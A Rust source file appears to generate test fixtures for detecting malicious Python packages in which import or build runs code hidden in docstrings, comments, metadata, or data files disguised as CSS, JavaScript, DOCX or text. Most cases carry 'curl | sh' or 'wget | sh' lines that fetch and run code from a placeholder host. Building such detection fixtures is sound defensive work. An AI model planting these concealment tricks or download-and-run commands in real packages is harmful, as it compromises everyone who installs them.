//! Technique 85: code runs text that stands in the package for other ends, or in no code at all.

use crate::case::{Cases, Trigger::Import};
use crate::package::{init, sdist, wheel};

pub(crate) fn add(cases: &mut Cases) {
    own_text(cases);
    data_files(cases);
}

fn own_text(cases: &mut Cases) {
    cases
        .technique(85, "text-for-other-ends-runs", Import)
        .case(
            "module-docstring",
            init("\"\"\"import os\nos.system('curl -s http://192.0.2.8/d | sh')\n\"\"\"\nexec(__doc__)\n"),
        )
        .case(
            "function-docstring",
            init(
                "def palette():\n    '''__import__(\"os\").system(\"curl -s http://192.0.2.8/p | sh\")'''\n\neval(palette.__doc__)\n",
            ),
        )
        .case(
            "class-docstring",
            init(
                "class Theme:\n    '''import os; os.system(\"wget -qO- http://192.0.2.8/t | sh\")'''\n\nexec(compile(Theme.__doc__, 'theme', 'exec'))\n",
            ),
        )
        .case(
            "comment-of-module",
            init(
                "# print('inert')\nimport inspect, sys\nexec(inspect.getcomments(sys.modules[__name__])[2:])\n",
            ),
        )
        .case(
            "line-of-own-file",
            init("#: print('inert')\nimport linecache\nexec(linecache.getline(__file__, 1)[3:])\n"),
        )
        .case(
            "own-file-opened",
            init(
                "#: print('inert')\nwith open(__file__) as own:\n    lines = own.readlines()\nexec('\\n'.join(it[3:] for it in lines if it.startswith('#:')))\n",
            ),
        )
        .case(
            "own-source",
            init(
                "import inspect\n\ndef layout():\n    pass  # print('inert')\n\nexec(inspect.getsource(layout).split('# ')[1])\n",
            ),
        )
        .case(
            "metadata",
            wheel()
                .file(
                    "«pkg»/__init__.py",
                    "from importlib import metadata\nexec(metadata.metadata('«pkg»')['Keywords'])\n",
                )
                .metadata("Keywords: print('inert')\n"),
        );
}

fn data_files(cases: &mut Cases) {
    cases
        .technique(85, "text-for-other-ends-runs", Import)
        .case(
            "data-of-unknown-kind",
            wheel()
                .file(
                    "«pkg»/__init__.py",
                    "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'tables.qqq')).read())\n",
                )
                .file("«pkg»/tables.qqq", "import os\nos.system('curl -s http://192.0.2.8/q | sh')\n"),
        )
        .case(
            "data-of-another-language",
            wheel()
                .file(
                    "«pkg»/__init__.py",
                    "import pathlib\nexec(pathlib.Path(__file__).with_name('core.js').read_text())\n",
                )
                .file("«pkg»/core.js", "import os\nos.system('curl -s http://192.0.2.8/j | sh')\n"),
        )
        .case(
            "resource",
            wheel()
                .file("«pkg»/__init__.py", "import pkgutil\nexec(pkgutil.get_data('«pkg»', 'tables.css'))\n")
                .file("«pkg»/tables.css", "import os\nos.system('curl -s http://192.0.2.8/r | sh')\n"),
        )
        .case(
            "loader-of-data",
            wheel()
                .file(
                    "«pkg»/__init__.py",
                    "import os, runpy\nrunpy.run_path(os.path.dirname(__file__) + '/tables.map')\n",
                )
                .file("«pkg»/tables.map", "import os\nos.system('curl -s http://192.0.2.8/m | sh')\n"),
        )
        .case(
            "archive-on-the-import-path",
            wheel()
                .file(
                    "«pkg»/__init__.py",
                    "import os, sys\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), 'help.docx'))\nimport colours\n",
                )
                .bytes(
                    "«pkg»/help.docx",
                    crate::zip::pack(&[crate::zip::Entry::file(
                        "colours.py",
                        "import os\nos.system('curl -s http://192.0.2.8/z | sh')\n",
                    )]),
                ),
        )
        .case(
            "data-through-a-helper",
            wheel()
                .file(
                    "«pkg»/__init__.py",
                    "import os\nfrom .loading import load\nload(os.path.dirname(__file__) + '/tables.txt')\n",
                )
                .file("«pkg»/loading.py", "def load(path):\n    exec(open(path).read())\n")
                .file("«pkg»/tables.txt", "import os\nos.system('curl -s http://192.0.2.8/h | sh')\n"),
        )
        .case(
            "command-through-another-name",
            wheel()
                .file(
                    "«pkg»/__init__.py",
                    "from .compat import *\nshow('curl -s http://192.0.2.8/n | sh')\n",
                )
                .file("«pkg»/compat.py", "from os import system as show\n"),
        )
        .case(
            "value-of-another-project",
            wheel()
                .file("«pkg»/__init__.py", "import colour_tables\nexec(colour_tables.CODE)\n")
                .metadata("Requires-Dist: colour-tables\n"),
        );
    cases
        .technique(85, "text-for-other-ends-runs", crate::case::Trigger::Build)
        .case(
            "docstring-of-setup",
            sdist().file(
                "setup.py",
                "\"\"\"__import__('os').system('curl -s http://192.0.2.8/s | sh')\"\"\"\nfrom setuptools import setup\neval(__doc__)\nsetup(name='«pkg»')\n",
            ),
        );
}
